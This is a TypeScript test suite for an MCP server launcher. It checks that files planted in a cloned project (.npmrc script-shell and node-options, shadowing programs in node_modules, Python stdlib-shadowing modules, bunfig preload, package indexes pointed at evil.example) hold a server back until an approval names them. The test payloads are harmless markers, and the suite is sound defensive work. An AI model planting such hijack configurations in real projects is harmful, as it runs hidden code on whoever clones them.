/** What a cloned folder plants for package runners decides nothing before an approval that names it. */

import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { createCommandTroupe as createTroupe } from '../../src/runtime/assembly/create-troupe.ts';
import { previewPlan } from '../../src/runtime/previews/preview-plan.ts';
import type { Troupe, TroupeOptions } from '../../src/runtime/troupe.ts';

const server = path.resolve('test/fixtures/stdio-server.mjs');
// Generous, for a loaded machine; all of it waits on events.

interface Clone {
  readonly project: string;
  /** Exists once planted code has run. */
  readonly marker: string;
  /** Writes a file into the project. */
  plant(file: string, text: string, mode?: number): void;
  /** Plants a program that notes that it ran, and then is the server. */
  program(file: string): void;
  options(entry: Entry, scope: 'user' | 'project'): TroupeOptions;
  start(entry: Entry, scope?: 'user' | 'project'): Troupe;
}

interface Entry {
  readonly policy?: TroupeOptions['policy'];
  readonly command: string;
  readonly args?: readonly string[];
  /** Below the project. Default: the project itself. */
  readonly cwd?: string;
}

function createClone(): Clone {
  const folder = realpathSync(mkdtempSync(path.join(tmpdir(), 'planted-')));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true, maxRetries: 5 }));
  const at = (...parts: string[]): string => path.join(folder, ...parts);
  for (const name of ['project', 'home', 'bin']) mkdirSync(at(name));
  const marker = at('ran');
  const plant = (file: string, text: string, mode = 0o644): void => {
    mkdirSync(path.dirname(at('project', file)), { recursive: true });
    writeFileSync(at('project', file), text, { mode });
  };
  const script = `#!/bin/sh\necho ran >> '${marker}'\n[ "$1" = token ] && exec echo secret\nexec '${process.execPath}' '${server}'\n`;
  // Runners that are not on this machine: whatever they would read, they have run.
  for (const name of ['bunx', 'pnpm', 'yarn', 'uvx', 'uv', 'deno', 'pipx', 'dnx']) {
    writeFileSync(at('bin', name), script);
    chmodSync(at('bin', name), 0o755);
  }
  const options = ({ cwd = '.', ...entry }: Entry, scope: 'user' | 'project'): TroupeOptions => {
    const file = scope === 'user' ? at('home', 'settings.json') : at('project', '.mcp.json');
    const good = { ...entry, era: 'legacy', cwd: path.join(at('project'), cwd) };
    writeFileSync(file, JSON.stringify({ mcpServers: { good } }));
    return {
      projectRoot: at('project'),
      stateDir: at('state'),
      sources: [{ file, scope }],
      policy: { connect: { localTimeoutMs: 60_000 } },
      env: {
        ...process.env,
        HOME: at('home'),
        PATH: `${at('bin')}:${process.env['PATH'] ?? ''}`,
        npm_config_update_notifier: 'false',
        // Nothing listens there: what a test needs is on the disk.
        npm_config_registry: 'http://127.0.0.1:9',
        npm_config_fetch_retries: '0',
      },
    };
  };
  return {
    project: at('project'),
    marker,
    plant,
    program: (file) => plant(file, script, 0o755),
    options,
    start(entry, scope = 'user') {
      const troupe = createTroupe(options(entry, scope));
      onTestFinished(() => troupe.stop());
      return troupe;
    },
  };
}

const serverModule = `
import os, sys
open(os.environ['RAN'], 'a').write('ran')
os.execv(os.environ['NODE'], [os.environ['NODE'], os.environ['SERVER']])
`;

/** A module that notes that it was imported, and then is the server. */
function module({ marker }: Clone): string {
  return serverModule
    .replace("os.environ['RAN']", JSON.stringify(marker))
    .replaceAll("os.environ['NODE']", JSON.stringify(process.execPath))
    .replace("os.environ['SERVER']", JSON.stringify(server));
}

type Way = readonly [
  name: string,
  entry: Entry,
  plant: (clone: Clone) => void,
  listed: readonly string[],
];

const npx = (...args: string[]): Entry => ({ command: 'npx', args });
const asCall = `node ${server}`;

/** With runners that are here: after the approval, the planted code does run. */
const realWays: readonly Way[] = [
  [
    'a shell in .npmrc',
    npx('-c', asCall),
    (clone) => {
      clone.program('evil.sh');
      clone.plant('.npmrc', 'script-shell=./evil.sh\n');
    },
    ['.npmrc'],
  ],
  [
    'options for Node in .npmrc',
    npx('-c', asCall),
    (clone) => {
      clone.plant('evil.cjs', `require('fs').appendFileSync('${clone.marker}', 'ran')`);
      clone.plant('.npmrc', `node-options=--require ${clone.project}/evil.cjs\n`);
    },
    ['.npmrc'],
  ],
  [
    'a program of the name in node_modules',
    npx('good-server'),
    (clone) => clone.program('node_modules/.bin/good-server'),
    ['node_modules', 'node_modules/.bin'],
  ],
  [
    'a package of the exact version in node_modules',
    npx('-y', 'good-server@1.0.0'),
    (clone) => {
      const manifest = { name: 'good-server', version: '1.0.0', bin: 'run.sh' };
      clone.plant('node_modules/good-server/package.json', JSON.stringify(manifest));
      clone.program('node_modules/good-server/run.sh');
      mkdirSync(path.join(clone.project, 'node_modules/.bin'));
      const link = path.join(clone.project, 'node_modules/.bin/good-server');
      symlinkSync('../good-server/run.sh', link);
    },
    ['node_modules', 'node_modules/.bin', 'node_modules/good-server/package.json'],
  ],
  [
    'another Node among the programs of node_modules',
    npx('-c', asCall),
    (clone) => clone.program('node_modules/.bin/node'),
    ['node_modules', 'node_modules/.bin'],
  ],
  [
    'a program in the node_modules of a folder above',
    { ...npx('good-server'), cwd: 'packages/app' },
    (clone) => {
      clone.plant('packages/app/README.md', '');
      clone.program('node_modules/.bin/good-server');
    },
    ['../../node_modules', '../../node_modules/.bin'],
  ],
  [
    'a bin of the name in package.json',
    npx('-y', 'good-server'),
    (clone) => {
      clone.program('run.sh');
      const manifest = { name: 'clone', version: '1.0.0', bin: { 'good-server': 'run.sh' } };
      clone.plant('package.json', JSON.stringify(manifest));
    },
    ['package.json'],
  ],
  [
    'a script in package.json',
    { command: 'npm', args: ['--silent', 'run', 'good'] },
    (clone) => {
      clone.program('run.sh');
      clone.plant('package.json', JSON.stringify({ scripts: { good: './run.sh' } }));
    },
    ['package.json'],
  ],
  [
    'a program, behind a shell',
    { command: 'sh', args: ['-c', 'exec npx good-server'] },
    (clone) => clone.program('node_modules/.bin/good-server'),
    ['node_modules', 'node_modules/.bin'],
  ],
  [
    'a program, behind env',
    { command: 'env', args: ['LEVEL=1', 'npx', 'good-server'] },
    (clone) => clone.program('node_modules/.bin/good-server'),
    ['node_modules', 'node_modules/.bin'],
  ],
  [
    'a module of the name',
    { command: 'python3', args: ['-m', 'good_server'] },
    (clone) => clone.plant('good_server.py', module(clone)),
    ['good_server.py'],
  ],
  [
    'a package of the name',
    { command: 'python3', args: ['-um', 'good_server'] },
    (clone) => clone.plant('good_server/__main__.py', module(clone)),
    ['good_server/__main__.py'],
  ],
  [
    'a module in place of one that Python brings',
    { command: 'python3', args: ['-m', 'json.tool', '--help'] },
    (clone) => clone.plant('argparse.py', module(clone)),
    ['argparse.py'],
  ],
  [
    'a package in place of one that Python brings',
    { command: 'python3', args: ['-c', 'import email'] },
    (clone) => clone.plant('email/__init__.py', module(clone)),
    ['email'],
  ],
];

/** With runners that need not be here. */
const otherWays: readonly Way[] = [
  ['bunfig.toml', 'bunx good-server', 'preload = ["./evil.ts"]'],
  ['.env', 'bunx good-server', 'NODE_OPTIONS=--require ./evil.cjs'],
  ['.pnpmfile.cjs', 'pnpm dlx good-server', 'evil()'],
  ['pnpm-workspace.yaml', 'pnpm dlx good-server', 'scriptShell: ./evil.sh'],
  ['.yarnrc.yml', 'yarn dlx good-server', 'yarnPath: ./evil.cjs'],
  ['.yarnrc', 'yarn dlx good-server', 'yarn-path "./evil.cjs"'],
  ['.pnp.cjs', 'yarn exec good-server', 'evil()'],
  ['uv.toml', 'uvx good-server', 'index-url = "http://evil.example"'],
  ['pyproject.toml', 'uv run good-server', '[build-system]'],
  ['.venv/bin/good-server', 'uv run good-server', '#!/bin/sh'],
  ['deno.json', 'deno run -A jsr:@good/server', '{ "imports": {} }'],
  ['good-server', 'pipx run good-server', 'evil()'],
  ['NuGet.Config', 'dnx Good.Server', '<configuration/>'],
  ['.tool-versions', 'uvx good-server', 'python path:./evil'],
].map(([file = '', line = '', text = '']): Way => {
  const [command = '', ...args] = line.split(' ');
  const listed = file.startsWith('.venv/') ? ['.venv', file] : [file];
  return [file, { command, args }, (clone) => clone.plant(file, text), listed];
});

/** Resolves once the server is blocked. */
async function waiting({ marker }: Clone, troupe: Troupe) {
  const { reason, action } = await troupe.waitFor('good', 'blocked');
  const [request] = troupe.approvals();
  const { decision, folderFiles } = request ?? {};
  return { reason, action, decision, folderFiles, hasRun: existsSync(marker) };
}

const waitingFor = (...folderFiles: readonly string[]) => ({
  reason: 'pendingApproval',
  action: 'troupe approve good',
  decision: 'pending',
  folderFiles,
  hasRun: false,
});

describe('a server of the user’s own that starts in a clone', () => {
  it.each(realWays)(
    'does not start before an approval names %s',
    async (_, entry, plant, listed) => {
      const clone = createClone();
      plant(clone);
      const troupe = clone.start(entry);
      expect(await waiting(clone, troupe)).toEqual(waitingFor(...listed));
      expect(troupe.approvals()[0]?.warnings).toContainEqual(
        expect.stringContaining('it is a server of your own'),
      );
      troupe.send({ type: 'approval.grant', server: 'good' });
      await troupe.waitFor('good', 'ready', { timeoutMs: 60_000 });
      // The way is one: this is what the approval was about.
      expect(readFileSync(clone.marker, 'utf8')).toContain('ran');
    },
  );

  it.each(otherWays)(
    'does not start before an approval names %s',
    async (_, entry, plant, listed) => {
      const clone = createClone();
      plant(clone);
      const troupe = clone.start(entry);
      expect(await waiting(clone, troupe)).toEqual(waitingFor(...listed));
    },
  );
});

const plantProgram = (clone: Clone): void => clone.program('node_modules/.bin/good-server');

describe('a server of the user’s own that starts a package runner', () => {
  it('starts where nothing decides for it, and not once something does', async () => {
    const clone = createClone();
    clone.plant('package.json', JSON.stringify({ name: 'clone', dependencies: {} }));
    const troupe = clone.start({ command: 'uvx', args: ['good-server'] });
    await troupe.waitFor('good', 'ready');
    expect(troupe.approvals()).toEqual([]);
    rmSync(clone.marker);

    // As `git pull` brings it: nothing in the settings has changed.
    clone.plant('uv.toml', 'index-url = "http://evil.example"');
    troupe.send({ type: 'server.restart', server: 'good' });
    expect(await waiting(clone, troupe)).toEqual(waitingFor('uv.toml'));
    // Unless the settings were read again before the start, which then was not tried.
    const refusal = 'The folder of "uvx" has uv.toml, which was not approved';
    expect(troupe.status('good')?.lastError?.message ?? refusal).toContain(refusal);

    // It is watched while the server waits.
    rmSync(path.join(clone.project, 'uv.toml'));
    await troupe.waitFor('good', 'ready');
  });

  it('waits in the next run too, until it is approved there once', async () => {
    const clone = createClone();
    clone.plant('.npmrc', 'registry=http://evil.example\n');
    const entry = { command: 'pnpm', args: ['dlx', 'good-server'] };
    const first = clone.start(entry);
    expect(await waiting(clone, first)).toEqual(waitingFor('.npmrc'));
    first.send({ type: 'approval.grant', server: 'good' });
    await first.waitFor('good', 'ready');
    expect(await first.approvalsSaved()).toBe(true);
    await first.stop();
    const options = clone.options(entry, 'user');
    expect(await previewPlan(options)).toMatchObject({ steps: [{ step: 'spawn' }] });
    clone.plant('.npmrc', 'script-shell=./evil.sh\n');
    expect(await previewPlan(options)).toMatchObject({
      steps: [{ reason: 'it waits for your approval; next: troupe approve good' }],
    });
    rmSync(clone.marker);
    const second = clone.start(entry);
    expect(await waiting(clone, second)).toEqual(waitingFor('.npmrc'));
    expect(second.approvals()).toMatchObject([
      { because: 'folderFiles', changes: [{ field: 'folder/.npmrc', before: '', now: '' }] },
    ]);
  });

  it('does not wait for files of a folder outside the project', async () => {
    const clone = createClone();
    plantProgram(clone);
    mkdirSync(path.join(clone.project, '..', 'elsewhere'));
    const troupe = clone.start({ command: 'yarn', args: ['dlx', 'x'], cwd: '../elsewhere' });
    await troupe.waitFor('good', 'ready');
    expect(troupe.approvals()).toEqual([]);
  });

  it('waits if a link leads its folder into the project', async () => {
    const clone = createClone();
    plantProgram(clone);
    symlinkSync(clone.project, path.join(clone.project, '..', 'link'));
    const troupe = clone.start({ command: 'yarn', args: ['dlx', 'x'], cwd: '../link' });
    expect(await waiting(clone, troupe)).toEqual(waitingFor('node_modules', 'node_modules/.bin'));
  });

  it('waits if a switch leads it into the project', async () => {
    const clone = createClone();
    clone.plant('uv.toml', '');
    mkdirSync(path.join(clone.project, '..', 'elsewhere'));
    const args = ['--directory', clone.project, 'run', 'good'];
    const troupe = clone.start({ command: 'uv', args, cwd: '../elsewhere' });
    expect(await waiting(clone, troupe)).toEqual(waitingFor('../project/uv.toml'));
  });

  it('starts without an approval if its policy allows the files', async () => {
    const clone = createClone();
    plantProgram(clone);
    const policy = { approval: { folderFiles: 'allow' } } as const;
    const troupe = clone.start({ command: 'yarn', args: ['dlx', 'good-server'], policy });
    await troupe.waitFor('good', 'ready');
    expect(troupe.approvals()).toEqual([]);
  });
});

/** A server that the host passes, whose relative paths begin in the project, with values from commands. */
function hosted(clone: Clone, good: Readonly<Record<string, unknown>>): Troupe {
  const { sources: _, ...options } = clone.options({ command: 'unused' }, 'user');
  const settings = { mcpServers: { good }, mcp: { commandValues: true } };
  const troupe = createTroupe({ ...options, bare: true, settings });
  onTestFinished(() => troupe.stop());
  return troupe;
}

describe('a command that gives a value, and is a package runner', () => {
  it('does not run in a clone before an approval names what it reads', async () => {
    const clone = createClone();
    plantProgram(clone);
    clone.plant('.npmrc', 'script-shell=./evil.sh\n');
    const url = 'http://127.0.0.1:9/mcp';
    const troupe = hosted(clone, { url, headersCommand: 'npx good-server' });
    const listed = ['.npmrc', 'node_modules', 'node_modules/.bin'];
    expect(await waiting(clone, troupe)).toEqual(waitingFor(...listed));
    expect(troupe.approvals()[0]?.warnings).toContainEqual(
      expect.stringContaining('a command that gives one of its values runs in this project'),
    );
  });

  it('is bound to these files at each run', async () => {
    const clone = createClone();
    const env = { TOKEN: '!bunx token' };
    const good = { command: process.execPath, args: [server], env, era: 'legacy' };
    const troupe = hosted(clone, good);
    await troupe.waitFor('good', 'ready');
    expect(troupe.approvals()).toEqual([]);
    rmSync(clone.marker);
    clone.plant('bunfig.toml', 'preload = ["./evil.ts"]');
    troupe.send({ type: 'server.restart', server: 'good' });
    expect(await waiting(clone, troupe)).toEqual(waitingFor('bunfig.toml'));
    expect(troupe.status('good')?.lastError?.message).toContain(
      'The folder of "bunx" has bunfig.toml, which was not approved',
    );
    troupe.send({ type: 'approval.grant', server: 'good' });
    await troupe.waitFor('good', 'ready');
    expect(existsSync(clone.marker)).toBe(true);
  });
});

describe('a server of the clone that starts a package runner', () => {
  it('is bound to the files that its approval names', async () => {
    const clone = createClone();
    clone.plant('.npmrc', 'fund=false\n');
    plantProgram(clone);
    const troupe = clone.start({ command: 'pnpm', args: ['dlx', 'good-server'] }, 'project');
    const listed = ['.npmrc', 'node_modules', 'node_modules/.bin'];
    expect(await waiting(clone, troupe)).toEqual(waitingFor(...listed));
    expect(troupe.approvals()[0]?.warnings).not.toContainEqual(
      expect.stringContaining('a server of your own'),
    );
    troupe.send({ type: 'approval.grant', server: 'good' });
    await troupe.waitFor('good', 'ready');

    rmSync(clone.marker);
    clone.plant('.npmrc', 'script-shell=./evil.sh\n');
    troupe.send({ type: 'server.restart', server: 'good' });
    expect(await waiting(clone, troupe)).toEqual(waitingFor(...listed));
    expect(troupe.approvals()).toMatchObject([{ because: 'folderFiles' }]);

    // As it was approved: it starts by itself.
    clone.plant('.npmrc', 'fund=false\n');
    await troupe.waitFor('good', 'ready');
  });

  it('waits again when another program is put beside the approved one', async () => {
    const clone = createClone();
    plantProgram(clone);
    const troupe = clone.start({ command: 'pnpm', args: ['exec', 'good-server'] }, 'project');
    await troupe.waitFor('good', 'blocked');
    troupe.send({ type: 'approval.grant', server: 'good' });
    await troupe.waitFor('good', 'ready');
    rmSync(clone.marker);
    clone.program('node_modules/.bin/node');
    troupe.send({ type: 'server.restart', server: 'good' });
    expect(await waiting(clone, troupe)).toEqual(waitingFor('node_modules', 'node_modules/.bin'));
  });

  it('reads nothing outside the project for it, and names where links lead', async () => {
    const clone = createClone();
    const outside = path.join(clone.project, '..', 'outside');
    clone.plant('../outside/.bin/good-server', 'secret');
    symlinkSync(outside, path.join(clone.project, 'node_modules'));
    const troupe = clone.start({ command: 'pnpm', args: ['exec', 'good-server'] }, 'project');
    expect(await waiting(clone, troupe)).toEqual(waitingFor('node_modules'));
    const away = clone.start(
      { command: 'pnpm', args: ['exec', 'x'], cwd: '../outside' },
      'project',
    );
    await away.waitFor('good', 'blocked');
    expect(away.approvals()[0]).not.toHaveProperty('folderFiles');
  });
});
